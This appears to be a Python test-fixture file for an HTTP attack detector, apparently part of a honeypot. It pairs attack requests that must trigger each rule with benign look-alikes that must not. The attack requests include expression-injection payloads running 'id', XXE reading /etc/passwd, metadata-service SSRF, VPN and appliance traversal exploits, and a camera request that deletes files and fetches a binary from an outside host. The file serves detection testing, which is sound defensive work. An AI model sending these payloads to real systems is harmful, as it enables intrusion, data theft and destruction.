# SPDX-License-Identifier: MIT
# requests are not broken into lines
"""More HTTP requests by rule: those that must fire it, and those that resemble them and must not."""

from tests.decnet_workers.ttp.recorder.steps import Request, Step

MORE_STEPS: dict[str, tuple[list[Step], list[Step]]] = {
    "spring_class_loader": (
        [
            Request(
                "/login",
                method="POST",
                body="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            ),
            Request("/?class.module.classLoader.URLs%5B0%5D=0"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?class=math"),
        ],
    ),
    "expression_injection": (
        [
            Request(
                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/"
            ),
            Request(
                "/x.action",
                headers=("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",),
            ),
            Request(
                "/template/aui/text-inline.vm",
                method="POST",
                body="label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(${java.lang.Runtime})",
            ),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?price=${amount}"),
            Request("/a%7Bb%7D"),
        ],
    ),
    "template_injection": (
        [
            Request("/?name={{7*7}}"),
            Request("/?name=%7B%7B7*7%7D%7D"),
            Request("/f", method="POST", body="q=${913*77}"),
            Request("/?x=<%=7*7%>"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?calc=7*7"),
            Request("/?t={{user}}"),
        ],
    ),
    "cross_site_scripting": (
        [
            Request("/?q=<script>alert(1)</script>"),
            Request("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
            Request("/c", method="POST", body="t=<script src=//x.example/a.js>"),
            Request("/?u=javascript:alert(1)"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/javascript/app.js"),
            Request("/scripts/onload.txt"),
        ],
    ),
    "external_entity": (
        [
            Request(
                "/xmlrpc",
                method="POST",
                body="<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
            ),
            Request("/api", method="POST", body="<!DOCTYPE r SYSTEM 'http://198.51.100.7/x.dtd'><r/>"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/x", method="POST", body="<?xml version='1.0'?><a/>"),
            Request("/page", method="POST", body="<!doctype html><p>x</p>"),
        ],
    ),
    "request_forgery": (
        [
            Request("/proxy?url=http://169.254.169.254/latest/meta-data/"),
            Request("/fetch?u=http%3A%2F%2Flocalhost%3A8080/"),
            Request("/?x=gopher://127.0.0.1:6379/_INFO"),
            Request("/webhook", method="POST", body="url=http://169.254.169.254/"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/login?next=http://example.com/"),
            Request("/?ip=10.0.0.1"),
        ],
    ),
    "stream_wrapper": (
        [
            Request("/?page=php://filter/convert.base64-encode/resource=index.php"),
            Request("/?f=file:///etc/hosts"),
            Request("/?f=expect%3A%2F%2Fid"),
            Request("/x", method="POST", body="p=phar://a.jpg"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?page=about.php"),
            Request("/?u=http://example.com/"),
        ],
    ),
    "object_query_injection": (
        [
            Request("/login?user[$ne]=x&pass[$ne]=x"),
            Request("/login", method="POST", body='{"user":{"$gt":""},"pass":{"$gt":""}}'),
            Request("/login", method="POST", body="user[$regex]=.*&pass[$ne]=1"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/login", method="POST", body='{"user":"a","price":"$5"}'),
            Request("/?a[0]=x"),
        ],
    ),
    "serialized_object": (
        [
            Request("/invoker/readonly", method="POST", body="rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
            Request("/", headers=("Cookie: s=rO0ABXNy",)),
            Request("/x", method="POST", body='d=O:8:"Exploit1":1:{s:1:"a";s:2:"id";}'),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/x", method="POST", body="O:no"),
            Request("/x", method="POST", body="aced"),
        ],
    ),
    "header_injection": (
        [
            Request("/?u=x%0d%0aSet-Cookie:%20a=b"),
            Request("/%0D%0ALocation:http://x.example"),
            Request("/?l=en%0aX-Injected:1"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?text=a%0d%0ab"),
            Request("/set-cookie"),
        ],
    ),
    "file_written_by_put": (
        [
            Request("/shell.jsp/", method="PUT", body="<% out.print(1); %>"),
            Request("/fileserver/a.jsp", method="MOVE"),
            Request("/", method="PROPFIND"),
            Request("/x", method="MKCOL"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/", method="OPTIONS"),
            Request("/api/item/1", method="PUT", body="x"),
        ],
    ),
    "debug_method_probe": (
        [
            Request("/", method="TRACE"),
            Request("/", method="TRACK"),
            Request("/x", method="DEBUG"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/", method="OPTIONS"),
            Request("/trace"),
        ],
    ),
    "exchange_server_probe": (
        [
            Request(
                "/autodiscover/autodiscover.json?@x.example/owa/?&Email=autodiscover/autodiscover.json%3F@x.example"
            ),
            Request("/owa/auth/logon.aspx"),
            Request("/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"),
            Request("/EWS/Exchange.asmx", method="POST", body="x"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/recipe/"),
            Request("/autodiscovery"),
        ],
    ),
    "vpn_gateway_probe": (
        [
            Request("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
            Request("/dana-na/auth/url_default/welcome.cgi"),
            Request("/global-protect/login.esp"),
            Request("/vpn/../vpns/cfg/smb.conf"),
            Request("/+CSCOE+/logon.html"),
            Request("/clients/MyCRL", method="POST", body="aCSHELL/../../../etc/shadow"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/remote/"),
            Request("/vpn-guide.html"),
        ],
    ),
    "load_balancer_probe": (
        [
            Request("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/hosts"),
            Request("/mgmt/tm/util/bash", method="POST", body='{"command":"run","utilCmdArgs":"-c id"}'),
            Request("/ui/vropspluginui/rest/services/uploadova"),
            Request("/ztp/cgi-bin/handler"),
            Request("/cgi-bin/nas_sharing.cgi?user=messagebus&cmd=15"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/management/team"),
            Request("/analytics/report"),
        ],
    ),
    "transfer_server_probe": (
        [
            Request("/human.aspx"),
            Request("/moveitisapi/moveitisapi.dll?action=m2", method="POST", body="x"),
            Request("/goanywhere/license/Unlicensed.xhtml/x"),
            Request("/WebInterface/function/?command=getUserList&c2f=1111"),
            Request("/?InternalDir=/../../../../etc&InternalFile=passwd"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/human-resources.aspx"),
            Request("/guest"),
        ],
    ),
    "build_server_probe": (
        [
            Request("/script"),
            Request("/jenkins/scriptText", method="POST", body="script=println(1)"),
            Request("/hax?jsp=/app/rest/server;.jsp"),
            Request("/api/v4/projects"),
            Request("/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/scripts/app.js"),
            Request("/description"),
            Request("/client"),
        ],
    ),
    "container_api_probe": (
        [
            Request("/v1.24/containers/json"),
            Request("/containers/json?all=1"),
            Request("/v1.40/containers/create", method="POST", body='{"Image":"alpine"}'),
            Request("/api/v1/namespaces/kube-system/secrets"),
            Request("/runningpods/"),
            Request("/_ping"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/information"),
            Request("/api/v2/pods"),
            Request("/images/logo.png"),
        ],
    ),
    "search_engine_probe": (
        [
            Request("/_cat/indices?v"),
            Request("/_search?pretty"),
            Request("/_all_dbs"),
            Request("/solr/admin/info/system?wt=json"),
            Request("/_nodes/stats"),
            Request("/?query=SHOW+DATABASES"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/search"),
            Request("/catalog"),
            Request("/?query=shoes"),
        ],
    ),
    "cluster_manager_probe": (
        [
            Request("/ws/v1/cluster/apps/new-application", method="POST", body=""),
            Request("/v1/submissions/create", method="POST", body="{}"),
            Request("/jars/upload"),
            Request("/v1/agent/self"),
            Request("/api/jobs/", method="POST", body='{"entrypoint":"id"}'),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/ws/"),
            Request("/api/jobs/42"),
            Request("/v1/agents"),
        ],
    ),
    "java_server_probe": (
        [
            Request("/wls-wsat/CoordinatorPortType", method="POST", body="<a/>"),
            Request("/console/css/%252e%252e%252fconsole.portal"),
            Request("/invoker/JMXInvokerServlet"),
            Request("/CFIDE/administrator/"),
            Request("/geoserver/web/"),
            Request("/webtools/control/xmlrpc"),
            Request("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/console"),
            Request("/invoke"),
            Request("/geo/server"),
        ],
    ),
    "php_framework_exploit": (
        [
            Request("/_ignition/execute-solution", method="POST", body='{"solution":"x"}'),
            Request("/lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            Request(
                "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
                method="POST",
                body="x",
            ),
            Request("/_profiler/phpinfo"),
            Request("/index.php?option=com_users"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/vendor/list"),
            Request("/user/register"),
            Request("/ignition"),
        ],
    ),
    "react_server_exploit": (
        [
            Request(
                "/",
                method="POST",
                body='{"then":"$1:__proto__:then","value":"process.mainModule.require(\'child_process\')"}',
                headers=("Next-Action: x",),
            ),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/", method="POST", body='{"a":1}', headers=("Next-Action: x",)),
            Request("/", method="POST", body="__proto__"),
        ],
    ),
    "wordpress_users_listed": (
        [
            Request("/wp-json/wp/v2/users"),
            Request("/?author=1"),
            Request("/?rest_route=/wp/v2/users"),
            Request("/author-sitemap.xml"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/?author=jane"),
            Request("/wp-json/"),
            Request("/authors"),
        ],
    ),
    "wordpress_plugin_probe": (
        [
            Request("/wp-content/plugins/revslider/readme.txt"),
            Request("/wp-content/themes/x/style.css"),
            Request("/wp-admin/admin-ajax.php", method="POST", body="action=x"),
            Request("/wp-includes/wlwmanifest.xml.php"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/wp-content"),
            Request("/plugins/list"),
        ],
    ),
    "router_exploit": (
        [
            Request("/tmUnblock.cgi", method="POST", body="ttcp_ip=-h+`id`"),
            Request("/goform/setUsbUnload", method="POST", body="deviceName=x"),
            Request("/ctrlt/DeviceUpgrade_1", method="POST", body="<x/>"),
            Request("/cgi-bin/mainfunction.cgi"),
            Request("/getcfg.php"),
            Request("/picsdesc.xml", method="POST", body="<x/>"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/apply"),
            Request("/form"),
            Request("/upnp"),
        ],
    ),
    "camera_exploit": (
        [
            Request("/SDK/webLanguage", method="PUT", body="<language>$(id)</language>"),
            Request("/ISAPI/Security/users"),
            Request("/onvif/device_service"),
            Request("/device.rsp?opt=user&cmd=list"),
            Request("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws"),
            Request("/System/deviceInfo?auth=YWRtaW46MTEK"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/shell-script.html"),
            Request("/systems"),
        ],
    ),
    "archive_of_site_probe": (
        [
            Request("/backup.zip"),
            Request("/www.tar.gz"),
            Request("/example.com-db.sql.gz"),
            Request("/old/site.rar"),
            Request("/wwwroot.7z"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/download/manual.pdf"),
            Request("/backup"),
            Request("/style.zip.css"),
        ],
    ),
    "editor_leftovers_probe": (
        [
            Request("/.DS_Store"),
            Request("/.svn/entries"),
            Request("/.vscode/sftp.json"),
            Request("/docker-compose.yml"),
            Request("/.htpasswd"),
            Request("/id_rsa"),
            Request("/config/application.yml"),
            Request("/appsettings.json"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/svn"),
            Request("/package"),
            Request("/application"),
        ],
    ),
    "diagnostics_probe": (
        [
            Request("/phpinfo.php"),
            Request("/server-status"),
            Request("/actuator/heapdump"),
            Request("/debug/pprof/"),
            Request("/elmah.axd"),
            Request("/actuator/env"),
            Request("/metrics"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/information.php"),
            Request("/metric"),
            Request("/actuator"),
        ],
    ),
    "interface_description_probe": (
        [
            Request("/swagger.json"),
            Request("/v3/api-docs"),
            Request("/openapi.yaml"),
            Request("/graphql", method="POST", body='{"query":"{__schema{types{name}}}"}'),
            Request("/swagger/index.html"),
            Request("/service.asmx?wsdl"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/api"),
            Request("/graphql", method="POST", body='{"query":"{me}"}'),
            Request("/docs"),
        ],
    ),
    "language_model_probe": (
        [
            Request("/v1/models"),
            Request("/api/tags"),
            Request("/v1/chat/completions", method="POST", body='{"model":"gpt-4"}'),
            Request("/api/generate", method="POST", body='{"model":"llama3"}'),
            Request("/mcp", method="POST", body="{}"),
            Request("/api/v1/validate/code", method="POST", body='{"code":"x"}'),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/models"),
            Request("/v2/models"),
            Request("/tags"),
        ],
    ),
    "script_client_request": (
        [
            Request("/", agent="python-requests/2.32.3"),
            Request("/", agent="Go-http-client/1.1"),
            Request("/a", agent="libwww-perl/6.72"),
            Request("/", agent="fasthttp"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/", agent="Mozilla/5.0 (compatible; Googlebot/2.1)"),
            Request("/?ua=python-requests"),
        ],
    ),
    "researching_scanner_request": (
        [
            Request("/", agent="Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
            Request("/", agent="Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"),
            Request("/", agent="Expanse, a Palo Alto Networks company, searches across the global IPv4 space"),
        ],
        [
            Request("/"),
            Request("/index.html"),
            Request("/search?q=shoes&page=2"),
            Request("/", agent="Mozilla/5.0 (compatible; bingbot/2.0)"),
            Request("/censys"),
        ],
    ),
    "web_login_guessing": (
        [
            Request("/login", method="POST", body="user=admin&password=123456"),
            Request("/login", method="POST", body="user=admin&password=admin"),
            Request("/login", method="POST", body="user=admin&password=root"),
            Request("/login", method="POST", body="user=admin&password=qwerty"),
            Request("/login", method="POST", body="user=admin&password=letmein"),
            Request("/login", method="POST", body="user=admin&password=12345"),
            Request("/login", method="POST", body="user=admin&password=password"),
            Request("/login", method="POST", body="user=admin&password=welcome"),
        ],
        [
            Request("/login", method="POST", body="user=admin&password=x"),
            Request("/login", method="POST", body="user=admin&password=y"),
            Request("/login?password=x"),
            Request("/search", method="POST", body="q=password"),
        ],
    ),
    "basic_authentication_guessing": (
        [
            Request("/manager/html", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/manager/html", headers=("Authorization: Basic YWRtaW46Yg==",)),
            Request("/manager/html", headers=("Authorization: Basic YWRtaW46Yw==",)),
            Request("/manager/html", headers=("Authorization: Basic YWRtaW46ZA==",)),
            Request("/manager/html", headers=("Authorization: Basic YWRtaW46ZQ==",)),
        ],
        [
            Request("/", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/", headers=("Authorization: Basic YWRtaW46YQ==",)),
            Request("/", headers=("Authorization: Bearer x",)),
        ],
    ),
}
